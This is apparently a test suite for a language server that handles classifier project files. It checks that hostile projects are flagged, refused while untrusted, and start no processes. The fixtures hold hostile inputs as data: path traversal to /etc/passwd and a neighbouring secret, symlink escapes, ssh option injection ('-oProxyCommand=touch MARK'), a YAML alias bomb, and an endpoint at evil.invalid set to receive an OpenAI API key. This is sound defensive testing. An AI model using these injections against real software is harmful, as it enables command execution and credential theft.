/** Projects from somebody who means harm: the server reads them, and does nothing else until a person asks for it. */
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import type { Diagnostic } from "vscode-languageserver-protocol";
import type { ProjectSummary } from "../../schemas/protocol.ts";
import { type Client, startClient, uriOf } from "./client.ts";
import { csv, type Folder, makeFolder } from "./workspace.ts";

const SECRET = "the-neighbours-secret";

const project = (parts: { source?: string; rest?: string } = {}) => `version: 1
dataset: { source: ${parts.source ?? "data.csv"} }
task: { inputs: [text], targets: [{ column: label }] }
models: { baseline: { engine: linear } }
${parts.rest ?? ""}`;

/** Nine levels of nine aliases each: 387 million values once they are written out. */
const BOMB = `version: 1
a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]
${Array.from({ length: 8 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(", ")}]`).join("\n")}
dataset: { source: data.csv }
task: { inputs: [text], targets: *a8 }
`;

/** File, text, and a word of the error that is expected; null: nothing is wrong with the file itself. */
const PROJECTS: [name: string, text: string, error: RegExp | null][] = [
  ["up.clf.yaml", project({ source: "../neighbour/secret.csv" }), /outside the project's folder/],
  ["absolute.clf.yaml", project({ source: "/etc/passwd" }), /outside the project's folder/],
  ["remote.clf.yaml", project({ source: '"https://evil.invalid/data.csv"' }), /remote address/],
  ["link.clf.yaml", project({ source: "link.csv" }), /symbolic link/],
  ["glob.clf.yaml", project({ source: '"linked/*.csv"' }), /symbolic link/],
  ["decisions.clf.yaml", project({ rest: "review: { decisions: ../neighbour/secret.csv }\n" }), /outside/],
  ["splits.clf.yaml", project(), /symbolic link/],
  [
    "host.clf.yaml",
    project({ rest: 'hosts: { a: { kind: ssh, address: "-oProxyCommand=touch MARK" } }\n' }),
    /an ssh address/,
  ],
  [
    "workdir.clf.yaml",
    project({ rest: 'hosts: { a: { kind: ssh, address: a, workdir: "--rsh=touch MARK" } }\n' }),
    /workdir|pattern|-/,
  ],
  ["bomb.clf.yaml", BOMB, /alias/i],
  [
    "key.clf.yaml",
    project({
      rest: "endpoints: { thief: { base_url: 'https://evil.invalid/v1', key: OPENAI_API_KEY } }\n",
    }).replace("linear }", "linear }, asks: { engine: chat, endpoint: thief, model: m }"),
    null,
  ],
];

describe("hostile projects", function () {
  this.timeout(60_000);
  let outer: Folder;
  let folder: string;
  let client: Client;
  let atFirst: string[];
  let asked = 0;

  const listing = () => readdirSync(outer.path, { recursive: true, encoding: "utf8" }).sort();
  const uri = (name: string) => uriOf(join(folder, name));
  const refused = async (name: string, params: object): Promise<string> => {
    try {
      await client.request(name, params);
    } catch (error) {
      return (error as Error).message;
    }
    assert.fail(`${name} was answered`);
  };
  /** Command lines of the server's children (Linux). */
  const children = (): string[] => {
    const pid = client.process.pid!;
    const file = `/proc/${pid}/task/${pid}/children`;
    if (!existsSync(file)) return [];
    const pids = readFileSync(file, "utf8").trim().split(" ").filter(Boolean);
    return pids.map((child) => readFileSync(`/proc/${child}/cmdline`, "utf8").replaceAll("\0", " "));
  };

  before(async () => {
    outer = makeFolder();
    outer.write("neighbour/secret.csv", `text,label\n${SECRET},a\n${SECRET} 2,b\n`);
    folder = join(outer.path, "project");
    mkdirSync(folder);
    outer.write("project/data.csv", csv(["refund", "delivery"]));
    symlinkSync(join(outer.path, "neighbour", "secret.csv"), join(folder, "link.csv"));
    symlinkSync(join(outer.path, "neighbour"), join(folder, "linked"));
    symlinkSync(join(outer.path, "neighbour", "new.jsonl"), join(folder, "splits.splits.jsonl"));
    for (const [name, text] of PROJECTS) outer.write(`project/${name}`, text);
    atFirst = listing();
    client = await startClient({ folders: [folder], trusted: false });
    client.connection.onRequest("clf/secret", () => {
      asked++;
      return { value: null };
    });
  });
  after(async () => {
    await client?.stop();
    outer?.remove();
  });

  for (const [name, text, error] of PROJECTS) {
    it(`${name}: ${error ? "is an error" : "is only read"}`, async () => {
      const document = client.open(join(folder, name), text);
      const errors = (found: Diagnostic[]) => found.filter(({ severity }) => severity === 1);
      const found = await client.diagnostics(document.uri, (all) => error === null || errors(all).length > 0);
      if (error === null) assert.deepEqual(errors(found), []);
      else assert.match(String(errors(found)[0]!.message), error);
      assert.ok(!JSON.stringify(found).includes(SECRET));
      document.close();
    });
  }

  it("untrusted: nothing is run or written, whoever asks", async () => {
    const projects = await client.request<ProjectSummary[]>("clf/projects", {});
    assert.deepEqual(
      projects.filter(({ valid }) => valid).map(({ project }) => project),
      [uri("key.clf.yaml")],
    );
    assert.ok(!JSON.stringify(projects).includes(SECRET));
    const key = uri("key.clf.yaml");
    const row = { project: key, row: "x", target: "label" };
    for (const [name, params] of [
      ["clf/jobs/start", { project: key, kind: "fine-tune", models: ["baseline"] }],
      ["clf/jobs/cancel", { project: key, job: "x" }],
      ["clf/jobs/resume", { project: key, job: "x" }],
      ["clf/jobs/delete", { project: key, job: "x" }],
      ["clf/hosts/add", { project: key, address: "nobody@nowhere.invalid" }],
      ["clf/hosts/check", { project: key, host: "local" }],
      ["clf/fewShot", { project: key, after: "baseline" }],
      ["clf/rows/explain", row],
      ["clf/review/decide", { ...row, kind: "none" }],
      ["clf/review/decideTogether", { project: key, rows: ["x"], target: "label", label: "a" }],
      ["clf/review/undo", { project: key }],
      ["clf/predict", { project: key, model: "baseline", inputs: { text: "a" } }],
      [
        "clf/newProject/write",
        { data: uri("data.csv"), file: uri("n.clf.yaml"), inputs: ["text"], targets: ["label"], id: null },
      ],
    ] as const) {
      assert.match(await refused(name, params), /not trusted/, name);
    }
    assert.deepEqual(listing(), atFirst);
    assert.equal(asked, 0);
  });

  it("trusted: what has errors is refused, and opening it starts nothing", async () => {
    client.notify("clf/trust", { trusted: true });
    const projects = await client.request<ProjectSummary[]>("clf/projects", {});
    assert.equal(projects.length, PROJECTS.length);
    for (const [name, , error] of PROJECTS) {
      if (!error) continue;
      const start = { project: uri(name), kind: "fine-tune", models: ["baseline"] };
      assert.match(await refused("clf/jobs/start", start), /has errors|outside|symbolic link|cannot be read/, name);
    }
    const outside = { project: uriOf(join(outer.path, "neighbour", "x.clf.yaml")), kind: "fine-tune", models: ["m"] };
    assert.match(await refused("clf/jobs/start", outside), /is no project of this workspace/);
    const host = { project: uriOf(join(outer.path, "neighbour", "secret.csv")), address: "nobody@nowhere.invalid" };
    assert.match(await refused("clf/hosts/add", host), /is no project of this workspace/);
    // Splits are saved, and a place for jobs is made, in the project's own folder; nowhere else, and no job.
    const own = /^project[\\/](key\.splits\.jsonl|\.clf([\\/]jobs([\\/]\.following\.lock)?)?)$/;
    assert.deepEqual(
      listing().filter((path) => !own.test(path)),
      atFirst,
    );
    assert.equal(asked, 0);
    for (const command of children()) assert.match(command, /duckdb-process/);
  });
});
